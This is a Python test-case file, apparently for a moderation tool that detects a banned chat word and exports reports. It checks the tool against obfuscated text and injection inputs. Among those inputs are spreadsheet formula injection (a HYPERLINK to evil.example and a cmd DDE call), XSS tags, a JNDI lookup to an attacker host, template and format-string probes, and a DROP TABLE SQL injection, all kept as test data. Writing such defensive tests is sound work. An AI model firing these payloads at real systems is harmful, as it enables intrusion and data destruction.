"""TXT: what people and programs put into a message."""

from __future__ import annotations

import re
from typing import Any

from hostile.case import BANNED, Case, Seen, said
from hostile.names import sound

ALL = "xlsx,html,csv,jsonl"


def quoted(count: int) -> Any:
    """The banned word is found so often, and every workbook opens."""

    def holds(seen: Seen) -> bool:
        found = {finding["message"] for finding in seen.findings if "微信" in finding["quote"]} and [
            f for f in seen.findings if f["severity"] == "fatal" and "微信" in re.sub(r"[^\w]", "", f["quote"])
        ]
        return len({f["conversation"] for f in found or []}) == count and sound(seen)

    return holds


def quiet(seen: Seen) -> bool:
    """No raw escape, bell or forged line reaches a terminal."""
    return not re.search("[\x00-\x08\x0b-\x1f\x7f\u202a-\u202e]", seen.out + seen.err) and sound(seen)


def case(ident: str, what: str, *texts: str, **more: Any) -> Case:
    """Each text is said by an agent."""
    return Case(ident, what, said(*texts), **{"rows": len(texts), "formats": ALL, "holds": sound, **more})


CONTROLS = [f"{BANNED}{chr(code)}好" for code in range(1, 32) if code not in (10, 13)]

CASES = (
    case("TXT-01", "every control character", *CONTROLS, holds=quoted(len(CONTROLS))),
    case(
        "TXT-03",
        "starts of formulas",
        *(f"{sign}{BANNED}" for sign in ("=", "+", "-", "@", "\t", "\r")),
        holds=quoted(6),
    ),
    case(
        "TXT-04",
        "formulas that call out",
        f'=HYPERLINK("http://evil.example","{BANNED}")',
        f"=cmd|' /C calc'!A0 {BANNED}",
        holds=quoted(2),
    ),
    case("TXT-05", "letters that turn the direction", "加我\u202e信微\u202c", f"\u2067{BANNED}\u2069", holds=quiet),
    case(
        "TXT-07",
        "look-alikes",
        *("加我wеchat", "加我аlipay转账", "加我徽信", "加我薇信", "加我威信", "加我V信", "加我vx", "加我卫星"),
    ),
    case(
        "TXT-09",
        "words that only hold the banned one",
        "稍微信号不好",
        "显微信息",
        "卑微信徒",
        holds=lambda seen: not [f for f in seen.findings if f["severity"] == "fatal"],
    ),
    case("TXT-11", "HTML entities", "亲&nbsp;您好&#24494;&#20449;&lt;b&gt;"),
    case(
        "TXT-12",
        "markup",
        f"<script>alert(1)</script>{BANNED}",
        f"</td><img src=x onerror=alert(1)>{BANNED}",
        holds=lambda seen: (
            not any(
                "<script>alert" in p.read_text(encoding="utf-8") or "<img src=x" in p.read_text(encoding="utf-8")
                for p in (seen.folder / "out").glob("*.html")
            )
        ),
    ),
    case("TXT-13", "only pictures and cards", "[图片]", "[表情]", "[链接] https://item.taobao.com/item.htm?id=1"),
    case("TXT-15", "2,000 accents on one letter", "a" + "\u0301" * 2000 + BANNED, holds=quoted(1)),
    case("TXT-16", "40,000 characters round the banned word", "好" * 20_000 + BANNED + "好" * 20_000, holds=quoted(1)),
    case("TXT-17", "what Excel takes for escapes", f"_x000D_{BANNED}_x0041_", holds=quoted(1)),
    case("TXT-18", "32,767 emoji", "😀" * 32_767 + BANNED, holds=quoted(1)),
    case(
        "TXT-19",
        "200,000 characters that no dictionary knows",
        "".join(chr(0x9000 + n % 500) for n in range(200_000)),
        formats="jsonl",
        holds=None,
    ),
    case("TXT-20", "zero-width characters inside the word", "加我微\u200b信\u200d聊", "加我微\u2060信", holds=sound),
    case(
        "TXT-21",
        "noncharacters, private use, the last character of all",
        f"{BANNED}\ufffe\uffff\ue000\U0010ffff",
        holds=quoted(1),
    ),
    case("TXT-22", "300 line breaks", BANNED + "\n好" * 300, holds=quoted(1)),
    Case(
        "TXT-23",
        "a forged line of a log",
        said("好\n2026-11-16 09:00:00 错误：没有读到任何会话").replace(",agent,", ",nobody,"),
        code=2,
        rows=None,
        holds=lambda seen: "\n2026-11-16" not in seen.err,
    ),
    case("TXT-25", "escapes of a terminal and a bell", f"{BANNED}\x1b[31m\x07", f"{BANNED}\x1b]0;x\x07", holds=quiet),
    case("TXT-27", "Tibetan, Arabic, Russian, Korean, Thai", "བཀྲ་ཤིས", "مرحبا", "Здравствуйте", "안녕하세요", "สวัสดี"),
    case("TXT-28", "ligatures and widths", "ﷺ" * 50 + BANNED, "㍿" + BANNED, "ｗｅｃｈａｔ加我", holds=sound),
    case(
        "TXT-29",
        "one letter 100,000 times",
        "a" * 100_000,
        "的" * 100_000,
        "1" * 100_000,
        " " * 99_999 + "x",
        formats="jsonl",
        holds=None,
    ),
    case(
        "TXT-30", "100,000 quotes and brackets", '"' * 50_000, "（" * 50_000, "[" * 50_000, formats="jsonl", holds=None
    ),
    case(
        "TXT-31",
        "templates of other tools",
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "%s%n{0.__class__}",
        "'; DROP TABLE findings;--",
    ),
)
